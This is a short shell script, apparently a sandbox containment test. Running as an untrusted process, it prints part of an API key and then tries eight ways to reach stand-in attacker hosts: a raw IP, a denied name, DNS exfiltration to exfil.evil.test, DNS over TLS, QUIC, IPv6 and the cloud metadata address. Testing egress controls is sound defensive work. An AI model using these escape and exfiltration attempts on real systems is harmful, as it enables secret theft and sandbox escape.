#!/bin/sh
# An untrusted script in a kid. It uses the one API that its card allows, with a secret that it never sees, and
# then tries eight ways out. EVIL, EVIL6 and DNS are addresses outside; the caller sets them.
me=/workspace/hostile
: "${EVIL:=203.0.113.7}" "${EVIL6:=2001:db8::7}" "${DNS:=203.0.113.2}"

echo "I am uid $(id -u), my key reads $(printf %.8s "$VENDOR_API_KEY")…"
"$me" whoami https://api.vendor.test/v1/whoami

"$me" try 1 "raw address" tcp "$EVIL:443"
"$me" try 2 "other port" name api.vendor.test:8443
"$me" try 3 "denied name" name evil.test:443
"$me" try 4 "other resolver" dns "$DNS:53" exfil.evil.test
"$me" try 5 "DNS over TLS" tcp "$EVIL:853"
"$me" try 6 "QUIC" udp "$EVIL:443"
"$me" try 7 "metadata address" tcp 169.254.169.254:80
"$me" try 8 "IPv6" tcp "[$EVIL6]:443"
